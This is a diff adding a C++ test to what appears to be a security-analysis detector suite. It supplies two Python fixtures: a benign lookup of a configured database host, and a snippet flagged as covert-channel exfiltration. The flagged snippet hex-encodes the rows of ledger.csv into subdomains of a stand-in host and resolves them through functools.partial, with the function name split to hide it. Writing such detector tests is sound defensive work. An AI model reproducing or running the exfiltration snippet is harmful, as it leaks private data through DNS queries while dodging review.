@@ -535,5 +535,33 @@ TEST(HundredAndFiftyFifthRoundClasses, APartialWithSeveralBoundArgumentsKeepsThe
   for (const auto& c : cases) check(c);
 }
 
+// functools.partial of a library function with bound arguments
+// (partial(socket.getaddrinfo, name, 53)) runs that call with them, as a
+// partial of the code's own function does: the names a ledger's rows were
+// hex-encoded into are resolved. Twin: a configured host resolved the same way.
+TEST(HundredAndFiftyFifthRoundClasses, APartialOfALibraryCallRunsWithItsBoundArguments) {
+  const Case cases[] = {
+      {"rows hex-encoded into names resolved through a partial", B,
+       "import asyncio, binascii, functools, socket\n"
+       "async def main():\n"
+       "    loop = asyncio.get_running_loop()\n"
+       "    lookup = getattr(socket, 'getaddr' + 'info')\n"
+       "    for line in open('ledger.csv'):\n"
+       "        name = binascii.hexlify(line.encode()).decode()[:60] + '.lookup.tallyzone.example'\n"
+       "        await loop.run_in_executor(None, functools.partial(lookup, name, 53))\n"
+       "asyncio.run(main())\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"a configured host resolved through a partial", L,
+       "import asyncio, functools, os, socket\n"
+       "async def main():\n"
+       "    loop = asyncio.get_running_loop()\n"
+       "    host = os.environ.get('DB_HOST', 'db.internal.example')\n"
+       "    infos = await loop.run_in_executor(None, functools.partial(socket.getaddrinfo, host, 5432))\n"
+       "    print(len(infos))\n"
+       "asyncio.run(main())\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
